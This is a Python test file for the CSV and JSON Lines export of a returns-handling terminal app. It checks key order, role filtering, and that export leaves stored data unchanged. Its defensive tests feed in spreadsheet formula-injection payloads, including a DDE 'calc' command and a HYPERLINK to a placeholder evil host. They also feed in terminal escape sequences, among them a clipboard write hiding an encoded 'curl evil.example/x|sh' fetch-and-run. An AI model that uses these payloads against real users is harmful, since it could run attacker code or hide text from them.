"""`export` (DESIGN §4): the requests the caller may see, in id order, as JSON Lines with the
design's keys or as CSV safe to open in a spreadsheet; and it changes nothing."""

from __future__ import annotations

import csv
import io
import json
import random
import unicodedata

import pendulum
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from returns_tui import export as exporting
from returns_tui.domain import Tab
from returns_tui.roles import BUYER
from returns_tui.textsafe import safe
from returns_tui.timefmt import from_micros, iso_stored, iso_utc
from tests.conftest import T0, submission
from tests.test_services import dump

H = pendulum.duration(hours=1)
KEYS = [
    "id", "order_id", "shop", "type", "status", "tab", "attempt", "arbitration", "created_at",
    "respond_by", "amount", "currency", "buyer", "product", "reason", "buyer_note",
    "auto_approved", "refund_amount", "offer_amount", "offer_by", "keep_item", "reject_stage",
    "source", "sending", "marketplace_status", "records",
]  # fmt: skip


def jsonl(svc, actor, tab=Tab.ALL) -> list[dict]:
    out = io.StringIO()
    count = exporting.write_jsonl(svc.export(actor, tab), out)
    lines = out.getvalue().splitlines()
    assert count == len(lines)
    return [json.loads(x) for x in lines]


def csv_rows(svc, actor, tab=Tab.ALL) -> list[dict]:
    out = io.StringIO()
    exporting.write_csv(svc.export(actor, tab), out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.fixture
def story(svc, alice, sam):
    """R1 rejected, appealed and mediated for the buyer; R2 (globex, JPY) pending and past
    its deadline but not swept; R3 a refund accepted."""
    svc.submit(BUYER, submission("R1", "O1"), T0)
    svc.reject(alice, "R1", T0 + H, "no_proof", "no photo")
    svc.appeal(BUYER, "R1", T0 + 2 * H)
    svc.mediate(sam, "R1", T0 + 3 * H, "buyer", "photo is clear")
    svc.submit(BUYER, submission("R2", "O2", "globex", amount="1500", currency="JPY"), T0)
    svc.submit(BUYER, submission("R3", "O3", type="refund", amount="5.50"), T0)
    svc.accept(alice, "R3", T0 + H)
    return svc


def test_jsonl_has_the_designs_keys_in_order_one_request_a_line(story):
    rows = jsonl(story, story.login("root-admin"))

    assert [r["id"] for r in rows] == ["R1", "R2", "R3"]
    assert all(list(r) == KEYS for r in rows)
    r1, r2, r3 = rows
    assert r1 | {"records": None} == {
        "id": "R1", "order_id": "O1", "shop": "acme", "type": "return_and_refund",
        "status": "awaiting_buyer_ship", "tab": "in_process", "attempt": 1,
        "arbitration": "support_buyer", "created_at": "2026-11-20T09:00:00Z",
        "respond_by": "2026-11-22T09:00:00Z", "amount": "12.99", "currency": "USD",
        "buyer": "Ana Lima", "product": "Stoneware mug", "reason": "damaged",
        "buyer_note": "cracked on arrival", "auto_approved": False, "refund_amount": "12.99",
        "offer_amount": None, "offer_by": None, "keep_item": False, "reject_stage": "request",
        "source": "local", "sending": False, "marketplace_status": None, "records": None,
    }  # fmt: skip
    assert r1["records"] == [
        {"at": "2026-11-20T09:00:00Z", "actor": "buyer", "kind": "submitted", "from": None,
         "to": "pending", "note": "cracked on arrival"},
        {"at": "2026-11-20T10:00:00Z", "actor": "alice", "kind": "rejected", "from": "pending",
         "to": "rejected", "reason": "no_proof", "note": "no photo"},
        {"at": "2026-11-20T11:00:00Z", "actor": "buyer", "kind": "appealed", "from": "rejected",
         "to": "in_mediation"},
        {"at": "2026-11-20T12:00:00Z", "actor": "sam", "kind": "mediated",
         "from": "in_mediation", "to": "awaiting_buyer_ship", "decision": "buyer",
         "note": "photo is clear"},
    ]  # fmt: skip
    assert (r2["amount"], r2["currency"], r2["tab"]) == ("1500", "JPY", "to_proceed")
    assert (r3["amount"], r3["status"], r3["tab"]) == ("5.50", "completed", "completed")


def test_export_changes_nothing_and_shows_unswept_deadlines_as_they_stand(story):
    before = dump(story.engine)
    rows = jsonl(story, story.login("root-admin"))
    csv_rows(story, story.login("root-admin"))

    assert dump(story.engine) == before
    # R2's 48 h ran out long ago, but nobody swept: export shows it pending.
    assert rows[1]["status"] == "pending"


def test_an_operator_sees_only_their_shops_and_tab_filters(story):
    assert [r["id"] for r in jsonl(story, story.login("alice"))] == ["R1", "R3"]
    assert [r["id"] for r in jsonl(story, story.login("olga"))] == ["R2"]
    assert [r["id"] for r in jsonl(story, story.login("sam"))] == ["R1", "R2", "R3"]
    admin = story.login("root-admin")
    assert [r["id"] for r in jsonl(story, admin, Tab.TO_PROCEED)] == ["R2"]
    assert [r["id"] for r in jsonl(story, admin, Tab.COMPLETED)] == ["R3"]
    assert jsonl(story, admin, Tab.APPEALS) == []


def test_csv_has_a_header_and_one_row_a_request(story):
    rows = csv_rows(story, story.login("root-admin"))

    assert list(rows[0]) == list(exporting.CSV_COLUMNS)
    assert [r["id"] for r in rows] == ["R1", "R2", "R3"]
    r1 = rows[0]
    assert (r1["amount"], r1["status"], r1["tab"], r1["records"]) == (
        "12.99", "awaiting_buyer_ship", "in_process", "4",
    )  # fmt: skip
    assert r1["deadline"] == "2026-11-25T12:00:00Z"  # ship_by: the mediation + 5 days
    assert r1["buyer"] == "Ana Lima" and r1["arbitration"] == "support_buyer"
    assert rows[1]["amount"] == "1500"


def test_both_formats_flag_a_request_approved_by_the_clock(story):
    """R2's 48 hours ran out unanswered: once swept it is auto-approved, and only it; R1
    (approved by a mediation) and R3 (accepted) were approved by people."""
    admin = story.login("root-admin")
    assert [r["auto_approved"] for r in jsonl(story, admin)] == [False, False, False]
    story.sweep(T0.add(days=3))
    assert [r["auto_approved"] for r in jsonl(story, admin)] == [False, True, False]
    assert [r["auto_approved"] for r in csv_rows(story, admin)] == ["false", "true", "false"]
    assert list(exporting.CSV_COLUMNS)[-1] == "auto_approved"


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet might run: after leading white space, controls and invisible format
    characters, =, +, - or @ (or their fullwidth and small forms)."""
    skipped = "".join(ch for ch in set(cell) if ch.isspace() or unicodedata.category(ch)[0] == "C"
                      and unicodedata.category(ch) != "Cn")  # fmt: skip
    rest = cell.lstrip(skipped)
    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[:1] in "=+-@"


# Each start, and the cell's start as written: an apostrophe, or a placeholder for a
# character that must not reach the terminal (CR, the byte order mark).
STARTS = {
    "=": "'=", "+": "'+", "-": "'-", "@": "'@", "\t": "'\t", "\r": "␍", " ": "' ",
    "  \n ": "'  \n ", "\n": "'\n", "\u00a0": "'\u00a0", "\u3000": "'\u3000",
    "\ufeff": "<U+FEFF>", "\uff1d": "'\uff1d", "\uff0b": "'\uff0b", "\uff0d": "'\uff0d",
    "\uff20": "'\uff20", "\ufe66": "'\ufe66", "\u200d": "'\u200d",
}  # fmt: skip


@pytest.mark.parametrize("start", list(STARTS), ids=ascii)
def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(svc, start):
    formula = 'HYPERLINK("http://evil","click")'
    if start.isspace() or start in "\ufeff\u200d":  # white space before a formula character
        formula = "=" + formula
    note = start + formula
    svc.submit(BUYER, submission("R1", buyer=f"{start}cmd|' /C calc'!A0", note=note), T0)

    (row,) = csv_rows(svc, svc.login("root-admin"))
    assert row["buyer_note"].startswith(STARTS[start]), ascii(row["buyer_note"])
    assert row["buyer_note"].endswith(formula)
    assert not runs_as_formula(row["buyer_note"]) and not runs_as_formula(row["buyer"])
    assert row["id"] == "R1"  # plain cells untouched


@pytest.mark.parametrize("text", ["  hello", "\u00a0Ana", "\n\nline", "a=b", "Zoë", "12-3"])
def test_csv_cells_without_a_formula_are_left_alone(svc, text):
    svc.submit(BUYER, submission("R1", note=text), T0)
    (row,) = csv_rows(svc, svc.login("root-admin"))
    assert row["buyer_note"] == text


@settings(max_examples=500, deadline=None)
@given(text=st.text())
def test_no_csv_cell_runs_as_a_formula_or_holds_a_raw_control(text):
    cell = exporting._cell(text)
    assert not runs_as_formula(cell)
    # Nothing textsafe would replace is left (line breaks and tabs stay: CSV quotes them).
    assert safe(cell, single_line=False) == cell, ascii(cell)


# Terminal control sequences and characters that reorder or hide text: an OSC 52 clipboard
# write, a window title, a CSI of C1, DEL, NEL, the line and paragraph separators, bidi
# overrides and isolates, zero-width and byte-order marks, a tag character, private use.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x1b\\ \x1b]0;TITLE\x07 \x9b31m \x7f \x85"
    " \u2028 \u2029 \u202a\u202b\u202c\u202d\u202e \u2066\u2067\u2068\u2069 \u200b\u200e"
    " \u200f \u061c \ufeff \U000e0041 \ue000 \x00?"
)
KEPT = "Zoë\u00a0Müller\u3000田中 👩\u200d💻"  # spaces and a joined emoji are text


def raw_unsafe(text: str) -> set[str]:
    """The characters of `text` that must not reach a terminal raw: every one that
    str.isprintable() refuses, but for the spaces (Zs) and the line ends given."""
    return {ch for ch in text if not ch.isprintable() and unicodedata.category(ch) != "Zs"}


def test_jsonl_escapes_every_control_and_format_character_and_keeps_the_data(svc):
    note = HOSTILE.replace("\x00", "") + " " + KEPT  # NUL cannot be stored
    svc.submit(BUYER, submission("R1", buyer=KEPT + "\u202e", product=note, note=note), T0)
    out = io.StringIO()
    exporting.write_jsonl(svc.export(svc.login("root-admin")), out)
    text = out.getvalue()

    assert text.count("\n") == 1 and text.endswith("\n")
    assert raw_unsafe(text[:-1]) == set(), ascii(text)
    assert "\\u001b]52" in text and "\\u202e" in text and "\\u2028" in text
    assert KEPT.replace("\u200d", "\\u200d") in text  # spaces and letters stay as they are
    (row,) = [json.loads(line) for line in text.splitlines()]
    assert row["records"][0]["note"] == note


def test_an_ascii_line_with_del_or_esc_is_escaped_too(svc):
    """The writer's quick look at an ASCII line: DEL is the one character the JSON encoder
    leaves raw there."""
    svc.submit(BUYER, submission("R1", note="del\x7f esc\x1b[2J bel\x07"), T0)
    out = io.StringIO()
    exporting.write_jsonl(svc.export(svc.login("root-admin")), out)
    text = out.getvalue()
    assert "\x7f" not in text and "\x1b" not in text and "\x07" not in text
    assert "del\\u007f esc\\u001b[2J bel\\u0007" in text
    assert json.loads(text)["records"][0]["note"] == "del\x7f esc\x1b[2J bel\x07"


@settings(max_examples=1000, deadline=None)
@given(value=st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
))  # fmt: skip
def test_the_jsonl_escape_is_the_same_json_without_a_raw_control(value):
    text = exporting._dumps(value)
    escaped = exporting._escaped(text) if not text.isprintable() else text
    assert json.loads(escaped) == value
    assert raw_unsafe(escaped) == set(), ascii(escaped)
    if text.isprintable():
        assert escaped == text  # nothing to escape: the line goes out as the encoder made it


def test_csv_writes_placeholders_for_control_and_format_characters(svc):
    svc.submit(BUYER, submission("R1", buyer="Ana\x1b]0;x\x07", note=HOSTILE.replace("\x00", "")
                                 + "\r\nnext line\t" + KEPT), T0)  # fmt: skip
    out = io.StringIO()
    exporting.write_csv(svc.export(svc.login("root-admin")), out)
    text = out.getvalue()

    # The only CR is the CSV's own line end; the line break inside the note stays a line break.
    assert text.count("\r") == text.count("\r\n") == 2
    assert raw_unsafe(text.replace("\r\n", "").replace("\n", "").replace("\t", "")) == {
        "\u200d"
    }  # the zero-width joiner of the emoji, which textsafe keeps
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["buyer"] == "Ana␛]0;x␇"
    assert row["buyer_note"].startswith("␛]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==␛\\ ␛]0;TITLE␇")
    assert "<U+202E>" in row["buyer_note"] and "<U+2028>" in row["buyer_note"]
    assert row["buyer_note"].endswith("␍\nnext line\t" + KEPT)


def test_buyers_text_survives_both_formats(svc):
    name, note = "Zoë \"Z\" Müller, 田中 🌸", "line one\nline two, \"quoted\""
    svc.submit(BUYER, submission("R1", buyer=name, note=note), T0)

    assert jsonl(svc, svc.login("root-admin"))[0]["records"][0]["note"] == note
    (row,) = csv_rows(svc, svc.login("root-admin"))
    assert (row["buyer"], row["buyer_note"]) == (name, note)


def test_the_fast_time_text_is_iso_utc():
    rng = random.Random(5)
    values = [0, 1, 999_999, 1_000_000, 1_794_961_200_000_000]
    values += [rng.randrange(0, 4_000_000_000_000_000) for _ in range(500)]
    for micros in values:
        at = from_micros(micros)
        assert iso_stored(at) == iso_utc(at)
    paris = pendulum.datetime(2026, 7, 1, 12, tz="Europe/Paris")
    assert iso_stored(paris) == iso_utc(paris) == "2026-07-01T10:00:00Z"
    assert iso_stored(None) is None
